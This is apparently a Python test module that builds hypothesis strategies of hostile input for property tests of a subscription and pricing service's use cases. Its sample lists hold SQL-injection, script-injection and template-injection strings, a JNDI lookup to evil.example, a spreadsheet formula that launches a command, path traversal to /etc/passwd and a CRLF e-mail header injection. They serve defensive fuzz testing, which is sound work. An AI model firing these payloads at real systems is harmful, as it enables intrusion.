"""Hostile values for the hostile-input property tests (issue 16): hypothesis strategies of what a
person, a browser or a forged request can put into a use case's parameter, by kind.

Every strategy mixes the plausible (a real id, a valid form) with the hostile: empty, blank and
huge text, unicode (combining marks, right-to-left override, astral planes, NUL and the other
control characters), markup, SQL-ish and template-ish strings, spreadsheet formulas, negative and
huge numbers, decimal commas, impossible and far-away dates, ids of another organization's rows
or of none, and uploads that are not what they claim (binary, Latin-1, a UTF-16 BOM, a formula
file, a megabyte of one cell). `kind_of` says which strategy a parameter gets, from its name and
its type hint; it returns None for a parameter it has no rule for, which fails the test.
"""

from __future__ import annotations

import dataclasses
import types
import typing
from collections.abc import Callable, Mapping, Sequence
from datetime import date
from decimal import Decimal
from enum import Enum
from typing import Any

from hypothesis import strategies as st

Strategy = st.SearchStrategy[Any]

HUGE = 60_000  # characters of one huge text value (a pasted file, a flooded field)

NASTY_TEXT = (
    "'; DROP TABLE organization; --",
    "' OR '1'='1",
    'Robert"); DELETE FROM subscription; --',
    "<script>alert(1)</script>",
    "<b onmouseover=alert(1)>x</b>",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1)",
    "-2+3",
    "%",
    "_%_",
    "\\",
    "../../etc/passwd",
    "\x00",
    "a\x00b",
    "\r\nBcc: victim@evil.example",
    "\t\n\r\x0b\x0c",
    "\u202egnp.exe",
    "\ufeff",
    "e\u0301\u0301\u0301",
    "\U0001d518\U0001d52b\U0001d526",
    "👩‍👩‍👧‍👦",
    "İıſK",
    "null",
    "None",
    "NaN",
    "-Infinity",
    "1e309",
    "０１２",
    "٣",
    " ",
    "",
)


def text() -> Strategy:
    """Any text a person or a forged request can send."""
    return st.one_of(
        st.sampled_from(NASTY_TEXT),
        st.text(max_size=40),
        st.text(st.characters(categories=["Cc", "Cf", "Zs", "Mn"]), max_size=12),
        st.just("x" * HUGE),
        st.just("ü" * 300),
    )


def choices(values: Sequence[str]) -> Strategy:
    """One of the offered values, or anything else."""
    return st.one_of(st.sampled_from(list(values)), text()) if values else text()


def emails() -> Strategy:
    """E-mail addresses, plausible and not."""
    return st.one_of(
        st.sampled_from(
            [
                "a@b",
                "@",
                "a@b.c",
                "ann@example.com",
                "ünï@cödé.example",
                "a@b.example\r\nBcc: victim@evil.example",
                "x@" + "y" * 300 + ".example",
                '"a b"@example.com',
                "a@[127.0.0.1]",
            ]
        ),
        st.emails(),
        text(),
    )


def domains() -> Strategy:
    """Domain names and onmicrosoft.com prefixes, plausible and not."""
    return st.one_of(
        st.sampled_from(["a", "-a", "a-", "a" * 64, "xn--", "ex ample", "UPPER", "ünï", "a.b"]),
        st.from_regex(r"\A[a-z0-9]{1,27}\Z"),
        text(),
    )


def whole_numbers() -> Strategy:
    """Numbers: zero, negative, huge, past every database's integer."""
    return st.one_of(
        st.sampled_from([0, -1, 1, 2**31, 2**63, 2**64, -(2**63) - 1, 10**30]),
        st.integers(min_value=-(2**70), max_value=2**70),
    )


def number_text() -> Strategy:
    """Numbers as typed: decimal commas, exponents, foreign digits, words."""
    return st.one_of(
        st.sampled_from(
            ["1,5", "1.5", "1e3", " 3 ", "+5", "-0", "0x10", "1_000", "１２", "٣", "9" * 400]
        ),
        whole_numbers().map(str),
        text(),
    )


def quantities() -> Strategy:
    """A quantity as an int or as typed."""
    return st.one_of(whole_numbers(), number_text())


def prices() -> Strategy:
    """Money as typed (decimal commas, thousands separators, exponents) or as a Decimal."""
    return st.one_of(
        st.sampled_from(["1,50", "1.234,56", "1,234.56", "-5", "0", "0.0000001", "1e400"]),
        st.sampled_from(["NaN", "sNaN", "Infinity", "€ 5", "5 EUR", "9" * 100, "12.5.3"]),
        st.sampled_from([Decimal("NaN"), Decimal("-Infinity"), Decimal("1E+1000")]),
        st.decimals(allow_nan=True, allow_infinity=True),
        number_text(),
    )


def dates() -> Strategy:
    """Dates from the first to the last the calendar holds."""
    return st.one_of(st.sampled_from([date.min, date.max, date(1970, 1, 1)]), st.dates())


def date_text() -> Strategy:
    """Dates and months as typed: impossible, far away, other formats, or anything."""
    return st.one_of(
        st.sampled_from(
            ["2026-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "2026-13", "13/2026"]
        ),
        st.sampled_from(["2026-1", "31.12.2026", "2026-06-01T00:00", "yesterday", "-1-01"]),
        dates().map(date.isoformat),
        dates().map(lambda d: d.isoformat()[:7]),
        text(),
    )


def uploads() -> Strategy:
    """The text of an uploaded file (CSV, price sheet) that is not what it claims."""
    header = "product_id,sku_id,availability_id,term,billing_cycle,price,effective_from\n"
    formula = header + "=cmd|' /C calc'!A0,@SUM(1),+1,-1,=1+1,=HYPERLINK(\"x\"),2026-01-01\n"
    return st.one_of(
        st.sampled_from(["", "\n", ",,,,\n", header, formula, header + "a,b\n" * 2000]),
        st.binary(max_size=200).map(lambda b: b.decode("latin-1")),
        st.just("\ufeff" + header + "é" * 40),
        st.just(header.encode("utf-16").decode("latin-1")),
        st.just(header + ("x" * HUGE) + "\n"),
        st.just("\x00" * 64),
        st.lists(st.lists(st.sampled_from(NASTY_TEXT), max_size=8).map(",".join), max_size=6).map(
            "\n".join
        ),
        text(),
    )


def _csv_line() -> Strategy:
    return st.lists(st.sampled_from(NASTY_TEXT), max_size=8).map(",".join)


def header_maps() -> Strategy:
    """Request headers, with and without signature-looking ones."""
    names = st.sampled_from(["x-ms-signature-algorithm", "x-ms-signature", "authorization"])
    values = st.one_of(st.sampled_from(["rsa-sha256", "Signature AAAA", "!!!"]), text())
    return st.dictionaries(st.one_of(names, text()), values, max_size=4)


def request_bodies() -> Strategy:
    """A posted body: JSON-looking, binary or huge."""
    return st.one_of(
        st.binary(max_size=300),
        st.sampled_from([b"{}", b'{"EventName": "create-subscription"}', b"[" * 5000]),
        text().map(lambda s: s.encode("utf-8", "surrogatepass")),
    )


# Parameters by name: the strategy's maker. A name wins over its hint.
BY_NAME: dict[str, Callable[[], Strategy]] = {
    "email": emails,
    "send_to": emails,
    "mca_email": emails,
    "domain": domains,
    "prefix": domains,
    "quantity": quantities,
    "price": prices,
    "text": uploads,
    "body": request_bodies,
    "headers": header_maps,
    "first_month": date_text,
    "last_month": date_text,
    "value": date_text,
    "effective_from": date_text,
}


def ids(own: Sequence[int], foreign: Sequence[int]) -> Strategy:
    """An id: of the caller's row, of another organization's, of none, or past the database's
    integer."""
    return st.one_of(st.sampled_from([*own, *foreign]), whole_numbers())


def kind_of(name: str, hint: Any, world: Mapping[str, Strategy]) -> Strategy | None:
    """The strategy for a parameter, or None when no rule covers it.

    `world` holds the strategies that need the test's data: ids by parameter name, the real
    values of names that take one of a few (`item`, `status`), forms and produced values."""
    if name in world:
        return world[name]
    if name in BY_NAME and not _only_numbers(hint):
        return BY_NAME[name]()
    origin, args = typing.get_origin(hint), typing.get_args(hint)
    if origin in (types.UnionType, typing.Union):
        parts = [kind_of(name, arg, world) for arg in args]
        return None if any(p is None for p in parts) else st.one_of(*parts)  # type: ignore[arg-type]
    if origin is typing.Literal:
        return choices([str(a) for a in args])
    return _by_hint(name, hint, world)


def _only_numbers(hint: Any) -> bool:
    """The hint takes whole numbers only (a typed quantity, not text)."""
    return (set(typing.get_args(hint)) or {hint}) <= {int, type(None)}


def _by_hint(name: str, hint: Any, world: Mapping[str, Strategy]) -> Strategy | None:
    if hint is type(None):
        return st.none()
    if hint is bool:
        return st.booleans()
    if hint is int:
        return whole_numbers()
    if hint is str:
        return text()
    if hint is date:
        return dates()
    if hint is Decimal:
        return prices()
    if isinstance(hint, type) and issubclass(hint, Enum):
        return st.sampled_from(list(hint))
    if isinstance(hint, type) and dataclasses.is_dataclass(hint):
        fields = typing.get_type_hints(hint)
        parts = {f.name: kind_of(f.name, fields[f.name], world) for f in dataclasses.fields(hint)}
        if any(p is None for p in parts.values()):
            return None
        return st.builds(hint, **parts)  # type: ignore[arg-type]
    if typing.get_origin(hint) is list and typing.get_args(hint) == (str,):
        return st.lists(text(), max_size=6)
    return None
